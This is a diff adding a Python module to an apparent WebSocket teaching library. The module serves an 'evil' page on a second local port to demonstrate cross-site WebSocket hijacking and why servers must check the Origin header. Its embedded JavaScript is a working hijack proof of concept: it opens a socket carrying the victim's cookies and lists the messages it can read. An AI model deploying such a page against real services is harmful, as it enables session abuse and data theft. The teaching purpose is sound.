@@ -1,0 +1,119 @@
+"""Cross-site WebSocket hijacking: an "evil" page on a second kernel port.
+
+The same-origin policy keeps a page from *reading* other sites' HTTP answers, but it does
+not apply to WebSocket: any page may open ``new WebSocket("ws://your-server/chat")``, the
+browser attaches the cookies it holds for ``your-server`` (RFC 6265: cookies belong to a
+host, not to a port or a page), and the page reads every message that comes back. The one
+thing the browser always adds, and a page cannot forge, is the ``Origin`` header: the
+origin of the page that opened the socket (RFC 6455 §4.1 item 8, §10.2). So the server
+must look at it, and refuse origins it does not know with 403.
+
+:func:`start_evil_site` serves such a page from another port of the kernel::
+
+    evil = start_evil_site(server.url + "/chat")
+    evil.page_url          # open it in a browser: does the demo let it in?
+
+Two ports of one host are two *origins* (the port is part of an origin, RFC 6454 §4) but
+one *site* (a site ignores ports), so the browser sends even ``SameSite=Lax`` cookies along:
+on the real web, the evil page sits on another site and the cookie needs ``SameSite=None``.
+
+The page writes what happened into ``#verdict`` (``open`` or ``refused``) and every message
+it could read into ``#stolen``, always with ``textContent``.
+"""
+
+from __future__ import annotations
+
+import html
+import json
+
+from wslearn.handshake import Request, Response, text_response
+from wslearn.notebook import BackgroundServer, start_server
+
+__all__ = ["EvilSite", "evil_page", "start_evil_site"]
+
+PAGE_PATH = "/"
+
+
+def evil_page(target: str, *, send: str = "Hello from another origin") -> str:
+    """The HTML of a page that opens a WebSocket to ``target`` and shows what it can read."""
+    title = html.escape(target)
+    return f"""<!doctype html>
+<html lang="en">
+<head><meta charset="utf-8"><title>Not the demo</title></head>
+<body style="font-family:sans-serif">
+<h1>A page from another origin</h1>
+<p>This page opens <code>{title}</code> with the cookies your browser holds for that host.</p>
+<p>Verdict: <strong id="verdict">connecting…</strong></p>
+<p id="detail"></p>
+<p>Messages this page could read:</p>
+<ul id="stolen"></ul>
+<script>
+"use strict";
+const target = {json.dumps(target)};
+const verdict = document.getElementById("verdict");
+const detail = document.getElementById("detail");
+const stolen = document.getElementById("stolen");
+let opened = false;
+const ws = new WebSocket(target);
+ws.onopen = () => {{
+  opened = true;
+  verdict.textContent = "open";
+  verdict.className = "open";
+  detail.textContent = "the server let a page from " + location.origin + " in";
+  ws.send({json.dumps(send)});
+}};
+ws.onmessage = (event) => {{
+  const item = document.createElement("li");
+  item.textContent = String(event.data);
+  stolen.appendChild(item);
+}};
+ws.onclose = (event) => {{
+  if (opened) return;
+  verdict.textContent = "refused";
+  verdict.className = "refused";
+  // A refused handshake is invisible to the page: no status, just code 1006.
+  detail.textContent = "the handshake failed (the page only sees close code " + event.code + ")";
+}};
+</script>
+</body>
+</html>
+"""
+
+
+class EvilSite:
+    """What :func:`start_evil_site` serves: the page for ``target`` at ``/``, 404 elsewhere."""
+
+    def __init__(self, target: str) -> None:
+        self.target = target
+        self.page = evil_page(target)
+
+    def process_request(self, request: Request) -> Response:
+        if request.path != PAGE_PATH:
+            return text_response(404, f"only {PAGE_PATH} is served here\n")
+        response = text_response(200, self.page)
+        response.headers["Content-Type"] = "text/html; charset=utf-8"
+        return response
+
+    def __eq__(self, other: object) -> bool:  # the same target: the same site (re-runs)
+        return isinstance(other, EvilSite) and other.target == self.target
+
+    def __hash__(self) -> int:
+        return hash(self.target)
+
+
+async def _no_websocket(ws: object) -> None:
+    """Never reached: every request gets the page (or a 404) from ``process_request``."""
+
+
+_sites: dict[str, EvilSite] = {}
+
+
+def start_evil_site(target: str, name: str = "evil") -> BackgroundServer:
+    """Serve the evil page for ``target`` on a port of its own (``.http_url``).
+
+    Re-running the cell with the same target returns the running site.
+    """
+    site = _sites.get(name)
+    if site is None or site.target != target:
+        site = _sites[name] = EvilSite(target)
+    return start_server(_no_websocket, name, process_request=site.process_request)
